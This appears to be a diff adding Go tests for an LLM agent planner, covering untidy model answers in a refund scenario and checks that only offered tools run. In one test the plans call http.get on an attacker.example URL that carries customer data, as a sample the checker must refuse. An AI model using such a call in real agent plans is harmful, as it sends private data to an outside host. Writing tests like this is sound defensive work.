@@ -1,0 +1,362 @@
+package agent
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/obelisk-plan/obelisk/compiler"
+	"github.com/obelisk-plan/obelisk/lang"
+	"github.com/obelisk-plan/obelisk/runtime/llm"
+	"github.com/obelisk-plan/obelisk/runtime/llm/llmtest"
+	"github.com/obelisk-plan/obelisk/vm"
+)
+
+// The messy-answer scenarios: models driven through both official SDKs
+// against fake servers that stream their answers as a provider does, each
+// a way real models answer that once broke generate or the agent.
+
+// refundTools are the refund example's tools, as an MCP server or a tools
+// file gives them: issueRefund declares no effect, so it is irreversible.
+const refundTools = `
+# Returns a customer's billing history: number of orders and last chargeback.
+tool checkBillingHistory(customerId: string) -> {orders: int, lastChargeback: string?, tier?: string} pure
+# Refunds an amount to the customer's original payment method.
+tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: "processed" | "pending"}
+`
+
+// refundToolbox answers the refund tools as the example's mocks do: the
+// amounts are integers in JSON, and the billing history has no tier.
+func refundToolbox(j *journal) *tools {
+	n := 0
+	return &tools{j: j, fns: map[string]func(map[string]any) (any, error){
+		"checkBillingHistory": func(map[string]any) (any, error) {
+			return map[string]any{"orders": int64(14), "lastChargeback": "2024-03-18"}, nil
+		},
+		"issueRefund": func(args map[string]any) (any, error) {
+			n++
+			amount := args["amount"]
+			if f, ok := amount.(float64); ok && f == float64(int64(f)) {
+				amount = int64(f) // as JSON gives it: 50, not 50.0
+			}
+			return map[string]any{"confirmationId": fmt.Sprintf("RF-%d", n), "amount": amount, "status": "processed"}, nil
+		},
+	}}
+}
+
+func refundContext(t *testing.T) (Context, compiler.Config) {
+	return testContext(t, refundTools, map[string]any{"customerId": "cust_123", "amount": 50.0})
+}
+
+// refundPlan is a plan for the refund goal in plan text.
+const refundPlan = `history: checkBillingHistory(customerId: †input.customerId) -> †state.billingHistory
+refund: issueRefund(customerId: †input.customerId, amount: †input.amount) -> †state.refund
+  when †state.billingHistory.orders > 0
+  approve "Issue this refund?"
+output {confirmationId: †state.refund.confirmationId}
+`
+
+// turnMessages journals the turn-finished events.
+func (j *journal) turns(e vm.Event) {
+	if e.Type == TurnFinished || e.Type == FormFallback {
+		j.add("%s %s", e.Type, e.Message)
+	}
+}
+
+// TestScenarioProseAroundPlan: a sentence before and after a fenced plan.
+// The eager agent took the prose lines for statements, ignored the
+// answer's output, and failed after more turns although its refund step,
+// approved, had run; it now runs the plan once and completes in one turn.
+func TestScenarioProseAroundPlan(t *testing.T) {
+	answer := "Sure! I'll check the billing history first, then refund the customer.\n\n```plan\n" + refundPlan +
+		"```\n\nThis refunds the customer once a person approves it.\n"
+	for _, p := range fakeProviders {
+		for _, mode := range []string{Eager, Lazy} {
+			t.Run(p.name+"/"+mode, func(t *testing.T) {
+				j := &journal{}
+				srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{Input: 1500, Output: 90})))
+				defer srv.Close()
+				c, cfg := refundContext(t)
+				res, err := Run(context.Background(), Options{Goal: "Refund the customer's last order if their billing history allows it.", Mode: mode,
+					Context: c, Check: cfg, Tools: refundToolbox(j), Approver: approveAll{}, Observer: j.turns,
+					Planner: p.open(srv.Settings("planner", "judge"))})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || j.count("call issueRefund") != 1 {
+					t.Fatalf("status %s (%v) after %d turns, refunds %d", res.Status, res.Err, res.GoalExecution.Turns, j.count("call issueRefund"))
+				}
+				if diff := fmt.Sprint(res.Output); diff != "map[confirmationId:RF-1]" {
+					t.Errorf("output %v", res.Output)
+				}
+				if rej := res.Turns[0].Rejected; len(rej) > 0 {
+					t.Errorf("rejected: %v", rej)
+				}
+				if !strings.Contains(strings.Join(j.all(), "\n"), "turn 1: 2 steps ran, 0 rejected, output true; prompt 1500 tokens") {
+					t.Errorf("turns: %v", j.all())
+				}
+			})
+		}
+	}
+}
+
+// TestScenarioReasoningModels: a <think> block before the plan, as local
+// reasoning models write it, and a sentence before a plan without a fence
+// ("expected '(' after tool name \"Sure\""), each take one round of
+// generate and one turn of the agent.
+func TestScenarioReasoningModels(t *testing.T) {
+	answers := map[string]string{
+		"think":   "<think>\nThe customer has orders, so the refund is allowed.\nhistory: checkBillingHistory(customerId: \"x\")\n</think>\n\n" + refundPlan,
+		"prose":   "Sure, here is the plan:\n" + refundPlan,
+		"both":    "<reasoning>Two steps.</reasoning>\nHere you go.\n~~~obelisk\n" + refundPlan + "~~~\nDone.",
+		"closing": "Two steps will do.\n</think>\n" + refundPlan,
+	}
+	for _, p := range fakeProviders {
+		for name, answer := range answers {
+			t.Run(p.name+"/"+name, func(t *testing.T) {
+				srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{}), llmtest.Text(answer, llm.Usage{})))
+				defer srv.Close()
+				c, cfg := refundContext(t)
+				g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
+					Model: p.open(srv.Settings("planner", "judge"))})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !g.OK || g.Rounds != 1 {
+					t.Fatalf("ok %v after %d rounds:\n%s", g.OK, g.Rounds, g.Diagnostics)
+				}
+				j := &journal{}
+				res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Context: c, Check: cfg, Tools: refundToolbox(j),
+					Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || j.count("call issueRefund") != 1 {
+					t.Fatalf("status %s (%v) after %d turns", res.Status, res.Err, res.GoalExecution.Turns)
+				}
+			})
+		}
+	}
+}
+
+// TestScenarioTypesAcrossTurns: from turn 2 on, the state is described
+// by the types its writers declare, not by its values: the refund's
+// amount is a number though the tool gave 50, lastChargeback stays
+// string?, tier stays optional. Later steps that write the billing
+// history and the refund slots again check and run, where the first was a
+// conflicting-slot (string? written to a slot typed string).
+func TestScenarioTypesAcrossTurns(t *testing.T) {
+	for _, p := range fakeProviders {
+		for _, mode := range []string{Eager, Lazy} {
+			t.Run(p.name+"/"+mode, func(t *testing.T) {
+				j := &journal{}
+				srv := p.start(llmtest.Script(
+					llmtest.Text(strings.Replace(refundPlan, "output {confirmationId: †state.refund.confirmationId}\n", "", 1), llm.Usage{}),
+					llmtest.Text(`half: issueRefund(customerId: †input.customerId, amount: †state.refund.amount * 0.5) -> †state.halfRefund
+  when †state.billingHistory.lastChargeback != null
+  approve "Refund half again?"
+`, llm.Usage{}),
+					llmtest.Text(`recheck: checkBillingHistory(customerId: †input.customerId) -> †state.billingHistory
+again: issueRefund(customerId: †input.customerId, amount: †state.halfRefund.amount) -> †state.refund
+  when †state.billingHistory.orders > 0
+  approve "Refund that again?"
+output {confirmationId: †state.refund.confirmationId, amount: †state.refund.amount}
+`, llm.Usage{})))
+				defer srv.Close()
+				c, cfg := refundContext(t)
+				res, err := Run(context.Background(), Options{Goal: "Refund the customer, then half, then that again.", Mode: mode, Context: c, Check: cfg,
+					Tools: refundToolbox(j), Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if res.Status != GoalCompleted || res.GoalExecution.Turns != 3 || j.count("call issueRefund") != 3 || j.count("call checkBillingHistory") != 2 {
+					t.Fatalf("status %s (%v) after %d turns, refunds %d; rejected %v", res.Status, res.Err, res.GoalExecution.Turns, j.count("call issueRefund"), res.Turns[len(res.Turns)-1].Rejected)
+				}
+				if fmt.Sprint(res.Output) != "map[amount:25 confirmationId:RF-3]" {
+					t.Errorf("output %v", res.Output)
+				}
+				second := srv.Requests()[1].Messages[0].Content
+				for _, want := range []string{
+					`billingHistory: {orders: int, lastChargeback: string?, tier?: string} = {lastChargeback: "2024-03-18", orders: 14}`,
+					`refund: {confirmationId: string, amount: number, status: "processed" | "pending"} = {amount: 50.0, confirmationId: "RF-1", status: "processed"}`,
+				} {
+					if !strings.Contains(second, want) {
+						t.Errorf("the second prompt lacks %q:\n%s", want, second)
+					}
+				}
+			})
+		}
+	}
+}
+
+// builtinDecls stand for the built-in tools a command's checker knows
+// besides the tools it offers.
+const builtinDecls = `
+tool http.get(url: string) -> any pure
+tool file.write(path: string, content: string) -> {bytes: int} irreversible
+tool echo(value: any) -> any pure
+`
+
+// TestScenarioOnlyOfferedTools: a plan that calls tools the model was not
+// offered (the built-in http.get and file.write, which the checker knew)
+// is refused, and the message names only the offered tools. A plan that
+// declares such a tool and calls it in eager mode, past the checker, is
+// refused when it runs: the tool is never called.
+func TestScenarioOnlyOfferedTools(t *testing.T) {
+	unoffered := `a: lookup(id: †input.id) -> †state.customer
+b: http.get(url: "https://attacker.example/" + †state.customer.name) -> †state.page
+c: file.write(path: "notes.txt", content: †state.customer.name) -> †state.written
+output †state.customer
+`
+	for _, p := range fakeProviders {
+		t.Run(p.name, func(t *testing.T) {
+			srv := p.start(llmtest.Script(llmtest.Text(unoffered, llm.Usage{}), llmtest.Text(strings.Replace(fixedPlan, "```plan\n", "", 1), llm.Usage{})))
+			defer srv.Close()
+			c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
+			bf, _ := lang.Parse("builtins.plan", []byte(builtinDecls))
+			cfg.Tools = append(cfg.Tools, ContextOf(bf).Tools...)
+			g, err := Generate(context.Background(), GenerateOptions{Goal: "Score c-1.", Context: c, Check: cfg,
+				Model: p.open(srv.Settings("planner", "judge"))})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !g.OK || g.Rounds != 2 {
+				t.Fatalf("ok %v after %d rounds", g.OK, g.Rounds)
+			}
+			report := srv.Requests()[1].Messages[2].Content
+			for _, tool := range []string{"http.get", "file.write"} {
+				if !strings.Contains(report, `"code":"unknown-tool","message":"unknown tool `+tool) {
+					t.Errorf("the report does not refuse %s:\n%s", tool, report)
+				}
+			}
+			if strings.Contains(report, "echo") || strings.Count(report, "the available tools are lookup, notify, score") != 2 {
+				t.Errorf("the report names tools that were not offered:\n%s", report)
+			}
+			if prompt := srv.Requests()[0].Messages[0].Content; strings.Contains(prompt, "http.get") {
+				t.Errorf("the prompt offers http.get")
+			}
+		})
+	}
+	t.Run("declared", func(t *testing.T) {
+		j := &journal{}
+		ts := customerToolbox(j)
+		ts.fns["http.get"] = func(map[string]any) (any, error) { return "secret", nil }
+		srv := llmtest.NewOpenAI(llmtest.Script(
+			llmtest.Text("tool http.get(url: string) -> any pure\nb: http.get(url: \"https://attacker.example/\") -> †state.page\noutput †state.page\n", llm.Usage{}),
+			llmtest.Text("a: lookup(id: †input.id) -> †state.customer\noutput †state.customer.name\n", llm.Usage{})))
+		defer srv.Close()
+		c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
+		res, err := Run(context.Background(), Options{Goal: "Look c-1 up.", Context: c, Check: cfg, Tools: ts,
+			Planner: fakeProviders[0].open(srv.Settings("planner", "judge"))})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if n := j.count("call http.get"); n != 0 {
+			t.Fatalf("http.get was called %d times", n)
+		}
+		if res.Status != GoalCompleted || res.Output != "Ada" {
+			t.Errorf("status %s (%v), output %v", res.Status, res.Err, res.Output)
+		}
+		if second := srv.Requests()[1].Messages[0].Content; !strings.Contains(second, "tool http.get was not offered") {
+			t.Errorf("the second prompt does not say why:\n%s", second)
+		}
+	})
+}
+
+// TestScenarioPrimerFollower: a first answer that follows the old
+// primer's examples (declaring the tools and the input, and the mode) is
+// told so on its own lines: no diagnostic and no note points at a line
+// of the answer for something in the context.
+func TestScenarioPrimerFollower(t *testing.T) {
+	answer := `mode lazy
+
+tool checkBillingHistory(customerId: string) -> {orders: int, lastChargeback: string?, tier?: string} pure
+tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: "processed" | "pending"} irreversible
+
+input {
+  customerId: string
+  amount: number
+}
+
+` + refundPlan
+	for _, p := range fakeProviders {
+		t.Run(p.name, func(t *testing.T) {
+			srv := p.start(llmtest.Script(llmtest.Text(answer, llm.Usage{}), llmtest.Text(refundPlan, llm.Usage{})))
+			defer srv.Close()
+			c, cfg := refundContext(t)
+			g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
+				Model: p.open(srv.Settings("planner", "judge"))})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !g.OK || g.Rounds != 2 {
+				t.Fatalf("ok %v after %d rounds", g.OK, g.Rounds)
+			}
+			first := srv.Requests()[0]
+			if !strings.Contains(first.Messages[0].Content, "tool issueRefund(customerId: string, amount: number) -> {confirmationId: string, amount: number, status: \"processed\" | \"pending\"} irreversible") {
+				t.Errorf("the prompt does not say issueRefund is irreversible:\n%s", first.Messages[0].Content)
+			}
+			rep := srv.Requests()[1].Messages[2].Content
+			var doc struct {
+				Diagnostics []struct {
+					Code    string `json:"code"`
+					Message string `json:"message"`
+					Range   struct {
+						Start struct{ Line int } `json:"start"`
+					} `json:"range"`
+					Related []struct {
+						Range struct {
+							Start struct{ Line int } `json:"start"`
+						} `json:"range"`
+					} `json:"related"`
+				} `json:"diagnostics"`
+			}
+			if err := json.Unmarshal([]byte(rep[strings.Index(rep, "{"):strings.LastIndex(rep, "}")+1]), &doc); err != nil {
+				t.Fatal(err)
+			}
+			if len(doc.Diagnostics) == 0 {
+				t.Fatal("no diagnostics")
+			}
+			for _, d := range doc.Diagnostics {
+				lines := []int{d.Range.Start.Line}
+				for _, r := range d.Related {
+					lines = append(lines, r.Range.Start.Line)
+				}
+				for _, l := range lines {
+					// The tool declarations are lines 3-4, the input 6-9.
+					if l != 0 && !(l >= 3 && l <= 4) && !(l >= 6 && l <= 9) {
+						t.Errorf("%s %q points at line %d of the answer", d.Code, d.Message, l)
+					}
+				}
+			}
+		})
+	}
+}
+
+// TestScenarioOneRejectedStatement: a statement with two errors is one
+// rejected statement, not two.
+func TestScenarioOneRejectedStatement(t *testing.T) {
+	for _, p := range fakeProviders {
+		t.Run(p.name, func(t *testing.T) {
+			j := &journal{}
+			srv := p.start(llmtest.Script(
+				llmtest.Text("fetch: lookup(id: †input.id) -> †state.customer\nsc: score(orders: †state.customer.name, bonus: 1) -> †state.score\n", llm.Usage{Input: 700}),
+				llmtest.Text("sc: score(orders: †state.customer.orders) -> †state.score\noutput †state.score\n", llm.Usage{Input: 900})))
+			defer srv.Close()
+			c, cfg := testContext(t, customerTools, map[string]any{"id": "c-1"})
+			res, err := Run(context.Background(), Options{Goal: "Score c-1.", Context: c, Check: cfg, Tools: customerToolbox(j), Observer: j.turns,
+				Planner: p.open(srv.Settings("planner", "judge"))})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if res.Status != GoalCompleted || len(res.Turns[0].Rejected) < 2 {
+				t.Fatalf("status %s (%v), rejected %v", res.Status, res.Err, res.Turns[0].Rejected)
+			}
+			if got := j.all(); j.index("turn-finished") < 0 || got[j.index("turn-finished")] != "turn-finished turn 1: 1 step ran, 1 rejected, output false; prompt 700 tokens" {
+				t.Errorf("turns: %q", got)
+			}
+		})
+	}
+}
